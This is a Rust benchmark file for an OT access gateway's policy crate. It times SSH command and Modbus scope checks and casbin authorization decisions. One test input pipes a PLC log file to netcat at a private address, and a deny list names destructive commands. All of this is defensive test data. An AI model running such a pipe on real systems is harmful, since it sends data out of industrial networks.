//! Decisions per second: the scope evaluator (SSH commands, Modbus requests) and the casbin
//! authorization check. Run with `cargo bench -p otgate-policy`.

// A benchmark harness: failing loudly on a broken fixture is the point.
#![allow(clippy::expect_used)]

use std::hint::black_box;

use casbin::Adapter;
use criterion::{Criterion, criterion_group, criterion_main};
use otgate_policy::scope::{ModbusRead, ModbusRequest, Table};
use otgate_policy::{
    Action, Authorizer, Domain, Operation, OrgName, Role, Scope, UserName, ZoneName, authz,
};

const SCOPE: &str = r#"
[ssh]
allow = ["uptime", "systemctl status plc-*", "journalctl -u plc-* **", "cat /var/log/plc/*", "ls **"]
deny = ["journalctl ** --vacuum-* **", "rm **"]

[modbus]
units = [1]
allow = [
  { access = "read", table = "holding", range = "0-999" },
  { access = "write", table = "holding", range = "100-110", values = "0-500" },
]
"#;

fn scope(c: &mut Criterion) {
    let scope = Scope::from_toml(SCOPE, "bench").expect("bench scope parses");
    c.bench_function("scope/exec allowed", |b| {
        b.iter(|| {
            scope.check(&Operation::Exec(black_box(
                b"journalctl -u plc-io --since today -n 100",
            )))
        })
    });
    c.bench_function("scope/exec denied (pipe)", |b| {
        b.iter(|| {
            scope.check(&Operation::Exec(black_box(
                b"cat /var/log/plc/x | nc 10.0.0.1 80",
            )))
        })
    });
    let read = ModbusRequest {
        unit: 1,
        function: 3,
        read: Some(ModbusRead {
            table: Table::Holding,
            start: 0,
            count: 10,
        }),
        write: None,
    };
    c.bench_function("scope/modbus read 10 holding", |b| {
        b.iter(|| scope.check(&Operation::Modbus(black_box(&read))))
    });
}

fn casbin(c: &mut Criterion) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .build()
        .expect("runtime");
    let authz = runtime.block_on(async {
        let mut adapter = casbin::MemoryAdapter::default();
        for i in 0..200 {
            let zone = ZoneName::new(format!("zone-{i}")).expect("zone");
            let engineer = UserName::new(format!("eng{i}")).expect("user");
            let org = OrgName::new(format!("org{}", i % 20)).expect("org");
            let vendor = UserName::new(format!("vendor{i}")).expect("user");
            for rule in [
                authz::role_rule(&engineer, Role::Engineer, &Domain::Zone(zone.clone())),
                authz::admission_rule(&org, &zone),
                authz::member_rule(&vendor, &org),
            ] {
                adapter
                    .add_policy("g", authz::GROUPING, rule)
                    .await
                    .expect("rule");
            }
        }
        Authorizer::new(adapter).await.expect("authorizer")
    });
    let engineer = UserName::new("eng42").expect("user");
    let vendor = UserName::new("vendor42").expect("user");
    let zone = ZoneName::new("zone-42").expect("zone");
    let other = ZoneName::new("zone-43").expect("zone");
    c.bench_function("casbin/engineer approve (allowed)", |b| {
        b.iter(|| authz.is_allowed(black_box(&engineer), black_box(&zone), Action::Approve))
    });
    c.bench_function("casbin/engineer approve (denied)", |b| {
        b.iter(|| authz.is_allowed(black_box(&engineer), black_box(&other), Action::Approve))
    });
    c.bench_function("casbin/vendor request via organisation", |b| {
        b.iter(|| authz.is_allowed(black_box(&vendor), black_box(&zone), Action::Request))
    });
}

criterion_group!(benches, scope, casbin);
criterion_main!(benches);
